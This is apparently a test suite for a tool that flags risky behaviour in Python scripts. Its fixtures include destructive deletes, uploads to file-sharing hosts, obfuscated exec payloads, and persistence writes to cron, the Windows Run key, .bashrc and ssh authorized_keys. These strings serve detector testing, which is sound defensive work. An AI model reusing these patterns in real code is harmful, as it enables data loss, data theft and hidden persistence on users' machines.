import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyseBehaviour } from '../../../extension/analyse/behaviour.ts';
import type { Finding } from '../../../extension/analyse/types.ts';
import { analyse, briefly, sourceOf } from '../../helpers/behaviour.ts';

const test = suite('behaviour of scripts');

function rulesOf(text: string): readonly string[] {
  return [...new Set(analyse(text).findings.map((finding) => finding.rule))];
}

function finding(text: string, rule: string): Finding {
  const found = analyse(text).findings.find((each) => each.rule === rule);
  assert.ok(found, `${rule} in ${text}`);
  return found!;
}

test('a harmless script has inventory only', () => {
  const text = `"""Monthly report."""
import pandas as pd
import matplotlib.pyplot as plt

def main():
    # os.system("rm -rf /")
    df = pd.read_csv("sales.csv")
    totals = df.groupby("region")["amount"].sum()
    totals.plot.bar()
    plt.savefig("sales.png")
    print(f"Total: {totals.sum():,.2f}, see https://intranet.corp.local/reports")

if __name__ == "__main__":
    main()
`;
  const { findings, dataAccess, hosts, hasMain } = analyse(text);
  assert.equal(
    findings.map((each) => [each.rule, each.severity]),
    [['PYS-DATA-002', 'info']],
  );
  assert.equal([dataAccess, hosts, hasMain], [['csv'], [], true]);
});

test('names that only look like dangerous ones are silent', () => {
  for (const text of [
    'def exec(x): pass\nexec(open("a").read())',
    'class A:\n  def system(self, c): pass\nA().system("sudo rm -rf /")',
    'import re\nre.compile("x")\nmodel.eval()',
    'cursor.execute("DELETE FROM t WHERE id = 1")',
    'df.drop("table", axis=1)\nlabel = "Delete from cart"',
    'jwt.decode(t, verify=False)',
    'import os\nos.remove("old.txt")\nos.chmod("a.sh", 0o755)',
    'x = "a" * 5000\ny = "lorem ipsum dolor " * 100',
    'import subprocess\nsubprocess.run(["git", "status"])',
  ]) {
    assert.equal(
      rulesOf(text).filter((rule) => !rule.startsWith('PYS-DATA')),
      [],
      text,
    );
  }
});

test('aliases, partial imports and shells do not hide a call', () => {
  assert.ok(rulesOf('from shutil import rmtree as r\nr("/home")').includes('PYS-DESTR-001'));
  assert.ok(rulesOf('import os as o\ns = o.system\ns("sudo ls")').includes('PYS-PRIV-001'));
  assert.ok(
    rulesOf('import importlib\nm = importlib.import_module("os")\nm.system("sudo ls")').includes(
      'PYS-PRIV-001',
    ),
  );
  assert.ok(
    rulesOf('import subprocess as sp\ncmd = ["pip", "install"]\nsp.run(cmd + ["x"])').includes(
      'PYS-PRIV-005',
    ),
  );
  assert.ok(
    rulesOf(
      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
    ).includes('PYS-PRIV-005'),
  );
});

test('severity follows what is deleted', () => {
  const severity = (path: string) =>
    finding(`import shutil\nshutil.rmtree(${path})`, 'PYS-DESTR-001').severity;
  assert.equal(['"/"', '"/home/ana"', '"build"', 'path'].map(severity), ['high', 'high', 'info', 'low']);
  assert.is(
    finding('import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)', 'PYS-DESTR-001').severity,
    'info',
  );
});

test('uploads are told from downloads and from mere names', () => {
  const host = (text: string) => analyse(text).hosts.map((each) => `${each.class} ${each.direction}`);
  assert.equal(host('import requests\nrequests.get("https://pastebin.com/raw/x")'), ['paste download']);
  assert.equal(host('import requests\nrequests.post("https://transfer.sh/", files={"f": f})'), [
    'storage upload',
  ]);
  assert.equal(host('HOOK = "https://discord.com/api/webhooks/1/x"'), ['webhook named']);
  assert.equal(host('import requests\nrequests.get("http://93.184.216.34/x")'), ['raw_ip download']);
  assert.equal(host('import os\nos.system("curl -F f=@a.csv https://file.io")'), ['storage upload']);
  assert.equal(host('u = "https://www.w3.org/2001/XMLSchema"\nprint("https://a-shop.de")'), []);
  assert.equal(analyse('u = "https://wiki.acme.de/x"', ['.acme.de']).hosts[0]?.class, 'internal');
});

test('data that was read and is posted outside is named', () => {
  const text =
    'import pandas as pd, requests\nd = pd.read_sql("SELECT * FROM customers", c)\nrequests.post("https://collect.partner-site.com", json={"rows": d.to_dict()})';
  assert.is(
    finding(text, 'PYS-NET-006').message,
    'Sends data that it read (database) to collect.partner-site.com',
  );
  assert.not.ok(
    rulesOf('import requests\nrequests.post("https://collect.partner-site.com", json={"a": 1})').includes(
      'PYS-NET-006',
    ),
  );
});

test('decoded code, also through lambdas, modules by name and joined characters', () => {
  assert.is(
    finding('import base64 as b\nexec(b.b64decode("aW1wb3J0IG9z").decode())', 'PYS-OBF-001').severity,
    'high',
  );
  assert.ok(
    rulesOf(
      `_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec(_(b'=AQEeJxLz8xLTc7PS1Ww'))`,
    ).includes('PYS-OBF-001'),
  );
  assert.ok(rulesOf('exec("".join(chr(c) for c in [112, 114]))').includes('PYS-OBF-001'));
  assert.ok(rulesOf('getattr(__import__("o" + "s"), "sys" + "tem")("id")').includes('PYS-OBF-006'));
});

test('places where programs start by themselves', () => {
  const cases: Record<string, string> = {
    'PYS-PERSIST-001': 'open("/etc/cron.d/x", "w").write("* * * * * root x")',
    'PYS-PERSIST-002':
      'import os\nos.system(r"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d x.exe")',
    'PYS-PERSIST-003':
      'import os\np = os.path.join(os.path.expanduser("~"), ".config", "autostart", "x.desktop")\nopen(p, "w").write("")',
    'PYS-PERSIST-005':
      'from pathlib import Path\n(Path.home() / ".config/systemd/user/x.service").write_text("")',
    'PYS-PERSIST-006': 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f: f.write("x")',
    'PYS-PERSIST-009':
      'from pathlib import Path\nPath("~/.ssh/authorized_keys").expanduser().open("a").write("k")',
  };
  for (const [rule, text] of Object.entries(cases))
    assert.ok(rulesOf(text).includes(rule), `${rule}: ${rulesOf(text)}`);
});

test('a table whose name is not known, and a function that reads files, are no tables', () => {
  const at = (sql: string) =>
    analyse(`import sqlite3\nc = sqlite3.connect(p)\nc.execute(${sql})`).findings.find(
      ({ rule, line }) => rule === 'PYS-DATA-005' && line === 3,
    )?.message;
  // The connection says as much.
  assert.is(at('f"SELECT a FROM {table} WHERE b = 1"'), undefined);
  assert.is(at('f"SELECT a FROM sales.{table} WHERE b = 1"'), 'Reads a database: sales.{}');
  assert.is(
    at('"SELECT a FROM read_parquet(\'x.parquet\') JOIN people USING (id)"'),
    'Reads a database: people',
  );
});

test('evidence and details are redacted and bounded', () => {
  const secret = 'hunter2-Zx81-correct';
  const text = `import pyodbc\npyodbc.connect("DRIVER={x};SERVER=erp01;DATABASE=hr;UID=sa;PWD=${secret}")\nimport requests\nrequests.get("https://u:${secret}@files.partner-site.com/x")${' '.repeat(5000)}`;
  const all = JSON.stringify(analyse(text));
  assert.not.match(all, secret);
  for (const each of analyse(text).findings)
    assert.ok(each.evidence.length <= 200 && each.message.length <= 200);
});

test('fingerprints stay when lines move, and tell repetitions apart', () => {
  const prints = (text: string) => analyse(text).findings.map((each) => each.fingerprint);
  const text = 'import os\nos.system("sudo ls")\n';
  assert.equal(prints(`\n\n# x\n${text}`), prints(text));
  const twice = prints(`${text}os.system("sudo ls")\n`);
  assert.is(new Set(twice).size, 2);
  for (const print of twice) assert.match(print, /^[0-9a-f]{16}$/);
});

test('commands of a notebook are judged where they stand', () => {
  const source = {
    ...sourceOf('x = 1'),
    kind: 'notebook' as const,
    extras: [
      { kind: 'shell' as const, text: '!pip install requests', position: { line: 1, column: 1, cell: 4 } },
    ],
  };
  const [found] = analyseBehaviour(source).findings;
  assert.equal([found?.rule, found?.severity, found?.cell], ['PYS-PRIV-005', 'low', 4]);
  assert.is(found?.evidence, 'pip install requests');
  const curl = {
    ...source.extras[0],
    kind: 'shell' as const,
    text: '!curl -H "Authorization: Bearer Zx81kq77Lm20pQ99" -d @a.csv https://api.example.org/in',
    position: { line: 2, column: 1, cell: 4 },
  };
  const [sent] = analyseBehaviour({ ...source, extras: [curl] }).findings;
  assert.match(sent?.evidence ?? '', 'api.example.org/in');
  assert.not.match(sent?.evidence ?? '', 'kq77Lm20');
});

test('comments that ask to look away hide nothing', () => {
  assert.equal(briefly('import os\nos.system("sudo ls")  # noqa # nosec'), ['PYS-PRIV-001:2']);
});

test('Python 2 and broken files are analysed as far as they can be read', () => {
  assert.equal(briefly('import os\nprint "x"\nos.system("sudo ls")\nexcept:\nx = (\n'), ['PYS-PRIV-001:3']);
});

test('marks of AI authorship are taken from comments, not from what the script makes', () => {
  const tools = (text: string) => analyse(text).authorship.map((mark) => `${mark.tool}:${mark.line}`);
  assert.equal(
    tools('# Generated by ChatGPT\nx = 1\n# Co-authored-by: Copilot <x@users.noreply.github.com>'),
    ['ChatGPT:1', 'GitHub Copilot:3'],
  );
  assert.equal(tools('"""Report.\n\nThis script was written with the help of Claude.\n"""'), ['Claude:3']);
  assert.equal(tools("# Sure! Here's the updated script:"), ['AI (unnamed):1']);
  assert.equal(tools('# created by Cursor AI\n# AI-generated code\n# Code from Gemini'), [
    'Cursor:1',
    'AI (unnamed):2',
    'Gemini:3',
  ]);
  assert.equal(
    tools(
      '# Summary text generated by GPT-4 goes here\n# move the cursor with the mouse\n# written by Ana\nx = "Generated by ChatGPT"',
    ),
    [],
  );
});

test('hostile texts end, within bounds', () => {
  const many = 20_000;
  for (const text of [
    'f('.repeat(many),
    `x = ${'a.'.repeat(many)}b`,
    `x = ${'f('.repeat(150)}open("a")${')'.repeat(150)}\n`.repeat(50),
    Array.from({ length: 3000 }, (_, i) => `def f${i}(x):\n  return f${i + 1}(x)`).join('\n') +
      '\nf0(open("a").read())',
    Array.from({ length: 2000 }, (_, i) => `x${i + 1} = x${i} + [x${i}, x${i}]`).join('\n'),
    `import os\n${'os.system("sudo x")\n'.repeat(5000)}`,
    `s = "${'https://a.b/'.repeat(5000)}"`,
    '\0'.repeat(many),
    `class A:\n${'  def f(self): self.x = self.x + open("a").read()\n'.repeat(500)}A().f()`,
  ]) {
    const { findings } = analyse(text);
    assert.ok(findings.length <= 400);
  }
  assert.is(analyse(`import os\n${'os.system("sudo x")\n'.repeat(100)}`).findings.length, 25);
});

test('any text has an analysis', () => {
  const word = fc.constantFrom(
    'import os',
    'exec',
    '(',
    ')',
    'open("a.csv")',
    '=',
    'x',
    '\n',
    '  ',
    'def f(a):',
    'return',
    '.',
    'read()',
    'f"{x}"',
    '[',
    ']',
    '{',
    '}',
    ':',
    ',',
    'for',
    'in',
    'lambda x: x',
    'os.system("sudo")',
    'class A:',
    'self.x',
    'requests.post("https://api.openai.com/v1/chat/completions", json=x)',
    '+',
    '"s"',
    'b"\\x00"',
    '\u202e',
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 50 }), (parts) => {
      for (const text of [parts.join(' '), parts.join('\n'), parts.join('')])
        assert.type(analyse(text).findings.length, 'number');
    }),
    { numRuns: 500 },
  );
});

test.run();
